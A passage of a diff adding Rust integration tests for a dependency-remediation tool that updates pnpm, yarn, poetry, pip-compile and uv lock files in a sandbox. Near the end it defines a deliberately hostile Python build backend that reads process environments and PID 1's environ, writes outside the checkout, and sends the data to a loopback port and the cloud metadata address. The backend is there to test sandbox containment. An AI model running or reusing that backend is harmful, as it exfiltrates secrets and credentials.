@@ -299,6 +299,31 @@ fn go_binary() -> String {
     std::env::var("REMEDIATOR_TEST_GO").unwrap_or_else(|_| "go".to_owned())
 }
 
+/// One module version in a file:// module proxy, with one Go file `code`.
+fn proxy_module(root: &std::path::Path, module: &str, version: &str, go_mod: &str, code: &str) {
+    let dir = root.join(module).join("@v");
+    std::fs::create_dir_all(&dir).unwrap();
+    let list = dir.join("list");
+    let mut versions = std::fs::read_to_string(&list).unwrap_or_default();
+    versions.push_str(&format!("{version}\n"));
+    std::fs::write(&list, versions).unwrap();
+    std::fs::write(dir.join(format!("{version}.mod")), go_mod).unwrap();
+    std::fs::write(
+        dir.join(format!("{version}.info")),
+        json!({"Version": version, "Time": "2024-01-01T00:00:00Z"}).to_string(),
+    )
+    .unwrap();
+    let status = std::process::Command::new("python3")
+        .args(["-c", "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\nz.writestr(sys.argv[2] + '/go.mod', sys.argv[3])\nz.writestr(sys.argv[2] + '/lib.go', sys.argv[4])\nz.close()"])
+        .arg(dir.join(format!("{version}.zip")))
+        .arg(format!("{module}@{version}"))
+        .arg(go_mod)
+        .arg(code)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
 /// A file:// module proxy (GOPROXY) holding `example.com/vulnlib` v1.0.0 and v1.0.1.
 fn module_proxy(root: &std::path::Path) {
     let module = "example.com/vulnlib";
@@ -440,7 +465,8 @@ fn cargo_binary() -> String {
     String::from_utf8(output.stdout).unwrap().trim().to_owned()
 }
 
-/// A cargo local registry holding `vulncrate` 1.0.0 and 1.0.1, and a config.toml replacing
+/// A cargo local registry holding `vulncrate` 1.0.0 and 1.0.1 and `parentcrate` 1.0.0 (which
+/// depends on `vulncrate` ^1.0), and a config.toml replacing
 /// crates.io with it. Returns the config's path.
 fn local_crate_registry(root: &std::path::Path) -> std::path::PathBuf {
     let registry = root.join("registry");
@@ -460,6 +486,18 @@ for version in ["1.0.0", "1.0.1"]:
     lines.append(json.dumps({"name": name, "vers": version, "deps": [], "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False}))
 os.makedirs(f"{registry}/index/vu/ln", exist_ok=True)
 open(f"{registry}/index/vu/ln/{name}", "w").write("\n".join(lines) + "\n")
+# parentcrate 1.0.0 depends on vulncrate ^1.0: vulncrate is transitive for its dependents.
+buffer = io.BytesIO()
+with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+    for path, text in [("parentcrate-1.0.0/Cargo.toml", '[package]\nname = "parentcrate"\nversion = "1.0.0"\nedition = "2021"\n\n[dependencies]\nvulncrate = "1.0"\n'),
+                       ("parentcrate-1.0.0/src/lib.rs", "pub fn g() {}\n")]:
+        data = text.encode(); info = tarfile.TarInfo(path); info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+crate = buffer.getvalue()
+open(f"{registry}/parentcrate-1.0.0.crate", "wb").write(crate)
+dep = {"name": "vulncrate", "req": "^1.0", "features": [], "optional": False, "default_features": True, "target": None, "kind": "normal"}
+os.makedirs(f"{registry}/index/pa/re", exist_ok=True)
+open(f"{registry}/index/pa/re/parentcrate", "w").write(json.dumps({"name": "parentcrate", "vers": "1.0.0", "deps": [dep], "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False}) + "\n")
 "#;
     std::fs::create_dir_all(&registry).unwrap();
     let status = std::process::Command::new("python3")
@@ -638,8 +676,8 @@ fn uv_binary() -> String {
     std::env::var("REMEDIATOR_TEST_UV").unwrap_or_else(|_| "uv".to_owned())
 }
 
-/// A directory of wheels for `vulnpkg` 1.0.0 and 1.0.1 (an offline mirror uv reads with
-/// find-links).
+/// A directory of wheels for `vulnpkg` 1.0.0 and 1.0.1 and `parentpkg` 1.0.0 (which requires
+/// `vulnpkg>=1.0.0`): an offline mirror uv reads with find-links.
 fn wheels(dir: &std::path::Path) {
     let script = r#"
 import base64, hashlib, sys, zipfile
@@ -653,6 +691,15 @@ for version in ["1.0.0", "1.0.1"]:
     with zipfile.ZipFile(f"{out}/{name}-{version}-py3-none-any.whl", "w") as z:
         for p, c in files.items():
             z.writestr(p, c)
+# parentpkg 1.0.0 requires vulnpkg>=1.0.0: vulnpkg is transitive for its dependents.
+dist = "parentpkg-1.0.0.dist-info"
+files = {"parentpkg/__init__.py": "", f"{dist}/METADATA": "Metadata-Version: 2.1\nName: parentpkg\nVersion: 1.0.0\nRequires-Dist: vulnpkg>=1.0.0\n",
+         f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+record = [f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c)}" for p, c in files.items()]
+files[f"{dist}/RECORD"] = "\n".join(record + [f"{dist}/RECORD,,"]) + "\n"
+with zipfile.ZipFile(f"{out}/parentpkg-1.0.0-py3-none-any.whl", "w") as z:
+    for p, c in files.items():
+        z.writestr(p, c)
 "#;
     std::fs::create_dir_all(dir).unwrap();
     let status = std::process::Command::new("python3")
@@ -701,7 +748,7 @@ async fn a_uv_lock_is_updated_by_uv_in_the_sandbox() {
         ],
         adjust: Some(Box::new(move |s| {
             s.lockfiles.uv = uv_path;
-            s.lockfiles.uv_find_links = find_links;
+            s.lockfiles.python_find_links = find_links;
         })),
         ..Default::default()
     })
@@ -729,5 +776,1174 @@ async fn a_uv_lock_is_updated_by_uv_in_the_sandbox() {
     // uv's own check on the branch: the lock agrees with the manifest.
     let checkout = checkout(&world, branch, &["pyproject.toml", "uv.lock"], &[]);
     uv(checkout.path(), &wheel_dir, &["lock", "--check"]);
+    world.stop().await;
+}
+
+/// A tool `scripts/test` installs (its environment variable), else its name on PATH.
+fn test_tool(variable: &str, name: &str) -> String {
+    std::env::var(variable).unwrap_or_else(|_| name.to_owned())
+}
+
+/// A JavaScript tool run by the test itself (fixture set-up, the tool's check on the branch),
+/// with its caches in `dir`.
+fn js_tool(program: &str, dir: &std::path::Path, args: &[&str]) -> String {
+    let mut command = std::process::Command::new(program);
+    command
+        .args(args)
+        .current_dir(dir)
+        .env("HOME", dir.join(".home"))
+        .env("npm_config_store_dir", dir.join(".pnpm-store"))
+        .env("npm_config_cache_dir", dir.join(".pnpm-cache"))
+        .env("XDG_CACHE_HOME", dir.join(".cache"))
+        .env("npm_config_manage_package_manager_versions", "false")
+        .env("CI", "true");
+    run_checked(command, &format!("{program} {args:?}"))
+}
+
+/// The lines of `after` that `before` lacks, and the reverse: what a lock diff changed.
+fn changed_lines(before: &str, after: &str) -> (Vec<String>, Vec<String>) {
+    let old: std::collections::BTreeSet<&str> = before.lines().collect();
+    let new: std::collections::BTreeSet<&str> = after.lines().collect();
+    (
+        new.difference(&old).map(|l| l.to_string()).collect(),
+        old.difference(&new).map(|l| l.to_string()).collect(),
+    )
+}
+
+async fn js_world(
+    files: Vec<(&'static str, String)>,
+    registry: &NpmRegistry,
+    pnpm: String,
+    yarn: String,
+) -> (World, FakeGithub) {
+    let url = registry.url.clone();
+    let world = World::start(WorldOptions {
+        files,
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.npm_registry = url;
+            s.lockfiles.pnpm = pnpm;
+            s.lockfiles.yarn = yarn;
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    (world, github)
+}
+
+// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_pnpm_lock_is_updated_by_pnpm_in_the_sandbox() {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("ms", "2.1.3", &[]),
+    ])
+    .await;
+    let pnpm = test_tool("REMEDIATOR_TEST_PNPM", "pnpm");
+    let fixture = tempfile::tempdir().unwrap();
+    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
+    std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
+    let registry_flag = format!("--registry={}", registry.url);
+    js_tool(
+        &pnpm,
+        fixture.path(),
+        &[
+            "install",
+            "--lockfile-only",
+            "--ignore-scripts",
+            &registry_flag,
+        ],
+    );
+    let lock = std::fs::read_to_string(fixture.path().join("pnpm-lock.yaml")).unwrap();
+    assert!(lock.contains("lodash@4.17.20:"), "{lock}");
+
+    let (world, github) = js_world(
+        vec![("package.json", manifest), ("pnpm-lock.yaml", lock.clone())],
+        &registry,
+        pnpm.clone(),
+        "yarn".to_owned(),
+    )
+    .await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["pnpm-lock.yaml"], "tool": "pnpm install --lockfile-only",
+               "resolved": [{"path": "pnpm-lock.yaml: lodash@4.17.21", "version": "4.17.21", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    assert_eq!(
+        output["changed_files"],
+        json!(["package.json", "pnpm-lock.yaml"])
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "pnpm-lock.yaml").unwrap();
+    // Only lodash's lines moved: its specifier, version, key and integrity.
+    let (added, removed) = changed_lines(&lock, &after);
+    assert!(
+        added.iter().chain(&removed).all(|l| l.contains("4.17.2")
+            || l.contains(&NpmRegistry::integrity("lodash", "4.17.21"))
+            || l.contains(&NpmRegistry::integrity("lodash", "4.17.20"))),
+        "the diff is lodash's alone: +{added:?} -{removed:?}"
+    );
+    assert!(after.contains(&NpmRegistry::integrity("ms", "2.1.3")));
+    // pnpm's own check on the branch: the lock satisfies the manifest as it is.
+    let check = checkout(&world, branch, &["package.json", "pnpm-lock.yaml"], &[]);
+    js_tool(
+        &pnpm,
+        check.path(),
+        &[
+            "install",
+            "--frozen-lockfile",
+            "--lockfile-only",
+            "--ignore-scripts",
+            &registry_flag,
+        ],
+    );
+    assert_eq!(github.created().len(), 1);
+    world.stop().await;
+}
+
+// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_yarn_classic_lock_is_updated_by_yarn_in_the_sandbox() {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("ms", "2.1.3", &[]),
+    ])
+    .await;
+    let yarn = test_tool("REMEDIATOR_TEST_YARN", "yarn");
+    let fixture = tempfile::tempdir().unwrap();
+    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
+    std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
+    let yarn_args = |dir: &std::path::Path, frozen: bool| -> Vec<String> {
+        let mut args: Vec<String> = vec!["install".into(), "--ignore-scripts".into()];
+        if frozen {
+            args.push("--frozen-lockfile".into());
+        }
+        args.extend([
+            "--non-interactive".into(),
+            "--modules-folder".into(),
+            dir.join(".modules").to_string_lossy().into_owned(),
+            "--cache-folder".into(),
+            dir.join(".yarn-cache").to_string_lossy().into_owned(),
+            "--registry".into(),
+            registry.url.clone(),
+        ]);
+        args
+    };
+    let args = yarn_args(fixture.path(), false);
+    js_tool(
+        &yarn,
+        fixture.path(),
+        &args.iter().map(String::as_str).collect::<Vec<_>>(),
+    );
+    let lock = std::fs::read_to_string(fixture.path().join("yarn.lock")).unwrap();
+    assert!(lock.contains("lodash@4.17.20:"), "{lock}");
+
+    let (world, github) = js_world(
+        vec![("package.json", manifest), ("yarn.lock", lock.clone())],
+        &registry,
+        "pnpm".to_owned(),
+        yarn.clone(),
+    )
+    .await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["yarn.lock"], "tool": "yarn install --ignore-scripts",
+               "resolved": [{"path": "yarn.lock: lodash@4.17.21", "version": "4.17.21", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    assert_eq!(
+        output["changed_files"],
+        json!(["package.json", "yarn.lock"])
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "yarn.lock").unwrap();
+    let (added, removed) = changed_lines(&lock, &after);
+    assert!(
+        added.iter().chain(&removed).all(|l| l.contains("lodash")
+            || l.contains("4.17.2")
+            || l.contains(&NpmRegistry::integrity("lodash", "4.17.21"))
+            || l.contains(&NpmRegistry::integrity("lodash", "4.17.20"))),
+        "the diff is lodash's alone: +{added:?} -{removed:?}"
+    );
+    assert!(after.contains(&NpmRegistry::integrity("ms", "2.1.3")));
+    // yarn installed nothing into the clone: its node_modules went to the sandbox's /tmp.
+    let files = world
+        .git
+        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
+    assert_eq!(files, "package.json\nyarn.lock\n");
+    // yarn's own check on the branch: a frozen install accepts the lock.
+    let check = checkout(&world, branch, &["package.json", "yarn.lock"], &[]);
+    let args = yarn_args(check.path(), true);
+    js_tool(
+        &yarn,
+        check.path(),
+        &args.iter().map(String::as_str).collect::<Vec<_>>(),
+    );
+    assert_eq!(github.created().len(), 1);
+    world.stop().await;
+}
+
+/// A Python tool run by the test itself, offline or against the local index, caches in `dir`.
+fn python_tool(program: &str, dir: &std::path::Path, args: &[&str]) -> String {
+    let mut command = std::process::Command::new(program);
+    // A clean environment: the developer's pip settings (PIP_FIND_LINKS, say) would reach
+    // the output pip-compile writes.
+    command
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", dir.join(".home"))
+        .env("POETRY_CACHE_DIR", dir.join(".poetry-cache"))
+        .env("POETRY_CONFIG_DIR", dir.join(".poetry-config"))
+        .env("POETRY_VIRTUALENVS_PATH", dir.join(".venvs"))
+        .env("PIP_CACHE_DIR", dir.join(".pip-cache"))
+        .env("POETRY_KEYRING_ENABLED", "false")
+        .env("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring");
+    run_checked(command, &format!("{program} {args:?}"))
+}
+
+// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_poetry_lock_is_updated_by_poetry_from_the_projects_source() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let wheel_dir = fixtures.path().join("wheels");
+    wheels(&wheel_dir);
+    let index = support::python_index::PythonIndex::start(&wheel_dir).await;
+    let poetry = test_tool("REMEDIATOR_TEST_POETRY", "poetry");
+    let project = tempfile::tempdir().unwrap();
+    let pyproject = format!(
+        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
+         dependencies = [\"vulnpkg>=1.0.0,<1.0.1\"]\n\n[tool.poetry]\npackage-mode = false\n\n\
+         [[tool.poetry.source]]\nname = \"local\"\nurl = \"{}\"\npriority = \"primary\"\n",
+        index.url
+    );
+    std::fs::write(project.path().join("pyproject.toml"), &pyproject).unwrap();
+    python_tool(&poetry, project.path(), &["lock", "--no-interaction"]);
+    let lock = std::fs::read_to_string(project.path().join("poetry.lock")).unwrap();
+    assert!(
+        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
+        "{lock}"
+    );
+
+    let poetry_path = poetry.clone();
+    let index_host = index.url.clone();
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("pyproject.toml", pyproject.clone()),
+            ("poetry.lock", lock.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.poetry = poetry_path;
+            // The project's own source is a loopback index here: the egress policy must
+            // let the sandboxed tool reach it.
+            s.security.allow_private_networks = true;
+            let _ = index_host;
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulnpkg", "PyPI", "PYSEC-2024-0002").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["poetry.lock"], "tool": "poetry update --lock",
+               "resolved": [{"path": "poetry.lock", "version": "1.0.1", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    assert_eq!(
+        output["changed_files"],
+        json!(["pyproject.toml", "poetry.lock"])
+    );
+    let branch = output["branch"].as_str().unwrap();
+    // Poetry's own check on the branch: the lock is current for the manifest.
+    let check = checkout(&world, branch, &["pyproject.toml", "poetry.lock"], &[]);
+    python_tool(&poetry, check.path(), &["check", "--lock"]);
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_pip_compile_output_is_recompiled_with_its_recorded_options() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let wheel_dir = fixtures.path().join("wheels");
+    wheels(&wheel_dir);
+    let pip_compile = test_tool("REMEDIATOR_TEST_PIP_COMPILE", "pip-compile");
+    let project = tempfile::tempdir().unwrap();
+    std::fs::write(project.path().join("requirements.in"), "vulnpkg\n").unwrap();
+    let find_links = format!("--find-links={}", wheel_dir.display());
+    let compile = |dir: &std::path::Path, extra: &[&str]| {
+        let mut args = vec![
+            "--no-index",
+            find_links.as_str(),
+            "--strip-extras",
+            "--output-file=requirements.txt",
+        ];
+        args.extend(extra);
+        args.push("requirements.in");
+        python_tool(&pip_compile, dir, &args);
+    };
+    compile(project.path(), &["--upgrade-package=vulnpkg==1.0.0"]);
+    let compiled = std::fs::read_to_string(project.path().join("requirements.txt")).unwrap();
+    assert!(compiled.contains("vulnpkg==1.0.0"), "{compiled}");
+    assert!(
+        compiled.contains("autogenerated by pip-compile"),
+        "{compiled}"
+    );
+
+    let (tool, links) = (
+        pip_compile.clone(),
+        wheel_dir.to_string_lossy().into_owned(),
+    );
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("requirements.in", "vulnpkg\n".to_owned()),
+            ("requirements.txt", compiled.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.pip_compile = tool;
+            s.lockfiles.python_find_links = links;
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulnpkg", "PyPI", "PYSEC-2024-0003").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["requirements.txt"], "tool": "pip-compile --upgrade-package",
+               "resolved": [{"path": "requirements.txt", "version": "1.0.1", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "requirements.txt").unwrap();
+    // pip-compile's own word on the branch: compiling the sources again changes nothing.
+    let check = checkout(
+        &world,
+        branch,
+        &["requirements.in", "requirements.txt"],
+        &[],
+    );
+    compile(check.path(), &[]);
+    let recompiled = std::fs::read_to_string(check.path().join("requirements.txt")).unwrap();
+    assert_eq!(recompiled, after);
+    let (added, removed) = changed_lines(&compiled, &after);
+    assert_eq!(added, ["vulnpkg==1.0.1"], "-{removed:?}");
+    world.stop().await;
+}
+
+// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_yarn_berry_lock_is_updated_by_the_release_the_repository_commits() {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("ms", "2.1.3", &[]),
+    ])
+    .await;
+    let release = std::fs::read(test_tool(
+        "REMEDIATOR_TEST_YARN_BERRY",
+        "target/tools-yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js",
+    ))
+    .expect("the yarn Berry release scripts/test installs (@yarnpkg/cli-dist)");
+    let release = String::from_utf8(release).unwrap();
+    let fixture = tempfile::tempdir().unwrap();
+    let manifest = package_json(json!({"lodash": "4.17.20", "ms": "^2.1.3"}));
+    // The project's own yarn settings: its registry is a loopback one over plain HTTP, and
+    // packages the test registry serves carry no publication time for the age gate.
+    let rc = format!(
+        "yarnPath: .yarn/releases/yarn-4.cjs\nnodeLinker: node-modules\nnpmRegistryServer: \"{}\"\n\
+         unsafeHttpWhitelist:\n  - 127.0.0.1\nnpmMinimalAgeGate: 0\nenableTelemetry: false\n",
+        registry.url.trim_end_matches('/')
+    );
+    for (file, text) in [
+        ("package.json", manifest.as_str()),
+        (".yarnrc.yml", rc.as_str()),
+        (".yarn/releases/yarn-4.cjs", release.as_str()),
+        ("yarn.lock", ""),
+    ] {
+        let path = fixture.path().join(file);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    let berry = |dir: &std::path::Path, args: &[&str]| {
+        let mut node_args = vec![".yarn/releases/yarn-4.cjs"];
+        node_args.extend(args);
+        let mut command = std::process::Command::new("node");
+        command
+            .args(&node_args)
+            .current_dir(dir)
+            .env("HOME", dir.join(".home"))
+            .env("YARN_ENABLE_GLOBAL_CACHE", "0")
+            .env("YARN_CACHE_FOLDER", dir.join(".yarn-cache"));
+        run_checked(command, &format!("yarn Berry {args:?}"))
+    };
+    berry(fixture.path(), &["install", "--mode=update-lockfile"]);
+    let lock = std::fs::read_to_string(fixture.path().join("yarn.lock")).unwrap();
+    assert!(lock.contains("\"lodash@npm:4.17.20\":"), "{lock}");
+
+    let (world, github) = js_world(
+        vec![
+            ("package.json", manifest),
+            (".yarnrc.yml", rc),
+            (".yarn/releases/yarn-4.cjs", release),
+            ("yarn.lock", lock.clone()),
+        ],
+        &registry,
+        "pnpm".to_owned(),
+        "yarn".to_owned(),
+    )
+    .await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["yarn.lock"], "tool": "yarn install --mode=update-lockfile",
+               "resolved": [{"path": "yarn.lock: \"lodash@npm:4.17.21\"", "version": "4.17.21", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    assert_eq!(
+        output["changed_files"],
+        json!(["package.json", "yarn.lock"])
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "yarn.lock").unwrap();
+    let (added, removed) = changed_lines(&lock, &after);
+    assert!(
+        added
+            .iter()
+            .chain(&removed)
+            .all(|l| l.contains("lodash") || l.contains("4.17.2") || l.contains("checksum")),
+        "the diff is lodash's alone: +{added:?} -{removed:?}"
+    );
+    assert_eq!(
+        added.iter().filter(|l| l.contains("checksum")).count(),
+        1,
+        "+{added:?}"
+    );
+    // Berry's own check on the branch: an immutable install accepts the lock as it is.
+    let check = checkout(
+        &world,
+        branch,
+        &[
+            "package.json",
+            ".yarnrc.yml",
+            ".yarn/releases/yarn-4.cjs",
+            "yarn.lock",
+        ],
+        &[],
+    );
+    berry(
+        check.path(),
+        &["install", "--immutable", "--mode=skip-build"],
+    );
+    assert_eq!(github.created().len(), 1);
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_private_registry_gets_its_token_from_a_file_and_nothing_else_sees_it() {
+    const TOKEN: &str = "npm_PrivateRegistryToken1234567890";
+    let registry = NpmRegistry::start_private(
+        &[
+            ("lodash", "4.17.20", &[]),
+            ("lodash", "4.17.21", &[]),
+            ("ms", "2.1.3", &[]),
+        ],
+        Some(TOKEN),
+    )
+    .await;
+    let deps = json!({"lodash": "^4.17.20", "ms": "^2.1.3"});
+    let files = vec![
+        ("package.json", package_json(deps.clone())),
+        (
+            "package-lock.json",
+            lock_v3(
+                deps,
+                json!({"node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
+                       "node_modules/ms": locked(&registry, "ms", "2.1.3")}),
+            ),
+        ),
+    ];
+    let secrets = tempfile::tempdir().unwrap();
+    let token_file = secrets.path().join("npm-token");
+    std::fs::write(&token_file, format!("{TOKEN}\n")).unwrap();
+    let host = registry
+        .url
+        .trim_start_matches("http://")
+        .trim_end_matches('/')
+        .to_owned();
+
+    // Without the credential the registry refuses the tool, and the job says so.
+    let (world, _github) = world(files.clone(), &registry).await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
+    let error = op["error_message"].as_str().unwrap();
+    assert!(
+        error.contains("step lock failed") && error.contains("401"),
+        "{error}"
+    );
+    assert_eq!(registry.authorized_requests(), 0);
+    world.stop().await;
+
+    let url = registry.url.clone();
+    let world = World::start(WorldOptions {
+        files,
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.npm_registry = url;
+            s.lockfiles.registry_credentials =
+                vec![remediator::lockfile::credentials::RegistryCredential {
+                    host,
+                    token_env: None,
+                    token_file: Some(token_file),
+                    login: "token".to_owned(),
+                }];
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    assert_eq!(op["output"]["verification"]["vulnerable_left"], 0, "{op}");
+    assert!(registry.authorized_requests() > 0);
+    // The token reached the registry and nothing else: not the operation, its history, the
+    // pull request or the branch.
+    let history = world.history(id).await;
+    let created = github.created();
+    let branch = op["output"]["branch"].as_str().unwrap();
+    let tree = world
+        .git
+        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
+    assert_eq!(tree, "package-lock.json\npackage.json\n");
+    for (what, text) in [
+        ("operation", op.to_string()),
+        ("history", format!("{history:?}")),
+        ("pull request", serde_json::to_string(&created).unwrap()),
+        (
+            "lock",
+            world.file_on_branch(branch, "package-lock.json").unwrap(),
+        ),
+    ] {
+        assert!(!text.contains(TOKEN), "the token is in the {what}");
+    }
+    world.stop().await;
+}
+
+/// A PEP 517 build backend kept in the repository (`backend-path`), which uv runs to read the
+/// metadata of a path dependency that declares none: repository code, run by the lock step.
+/// It tries to write outside the clone, read the worker's environment and PID 1's, and send
+/// what it found to a port on the host's loopback, directly and through the proxy variables.
+fn hostile_backend(marker: &std::path::Path, port: u16) -> String {
+    format!(
+        r#"import os, socket, urllib.request
+found = repr(dict(os.environ))
+try:
+    found += open("/proc/1/environ", "rb").read().decode(errors="replace")
+except OSError:
+    pass
+for path in [{marker:?}, "/usr/ESCAPED", os.path.expanduser("~/../../ESCAPED_HOME")]:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        open(path, "w").write(found)
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(found.encode())
+except OSError:
+    pass
+for url in ["http://127.0.0.1:{port}/exfiltrate", "http://169.254.169.254/latest/meta-data/"]:
+    try:
+        urllib.request.urlopen(url, data=found.encode(), timeout=3)
+    except Exception:
+        pass
+
+def _dist(directory):
+    d = os.path.join(directory, "helper-1.0.0.dist-info")
+    os.makedirs(d, exist_ok=True)
+    open(os.path.join(d, "METADATA"), "w").write("Metadata-Version: 2.1\nName: helper\nVersion: 1.0.0\n")
+    return "helper-1.0.0.dist-info"
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+def prepare_metadata_for_build_wheel(directory, config_settings=None):
+    return _dist(directory)
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    raise RuntimeError("metadata is enough")
+"#
+    )
+}
+
+#[tokio::test]
+async fn a_build_backend_in_the_repository_runs_in_the_sandbox_and_reaches_nothing() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let wheel_dir = fixtures.path().join("wheels");
+    wheels(&wheel_dir);
+    let marker = fixtures.path().join("escaped/MARKER");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
+        dependencies = [\"vulnpkg>=1.0.0,<1.0.1\", \"helper\"]\n\n[tool.uv.sources]\nhelper = { path = \"helper\" }\n";
+    let helper =
+        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";
+    let backend = hostile_backend(&marker, port);
+    let project = tempfile::tempdir().unwrap();
+    for (file, text) in [
+        ("pyproject.toml", pyproject),
+        ("helper/pyproject.toml", helper),
+        (
+            "helper/backend.py",
+            "def get_requires_for_build_wheel(c=None):\n    return []\n",
+        ),
+    ] {
+        let path = project.path().join(file);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    // The fixture's lock, made with a harmless backend of the same metadata.
+    std::fs::write(
+        project.path().join("helper/backend.py"),
+        backend
+            .split("def _dist")
+            .nth(1)
+            .map(|rest| format!("import os\ndef _dist{rest}"))
+            .unwrap(),
+    )
+    .unwrap();
+    uv(project.path(), &wheel_dir, &["lock"]);
+    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
+    assert!(
+        lock.contains("name = \"helper\"\nversion = \"1.0.0\""),
+        "{lock}"
+    );
+
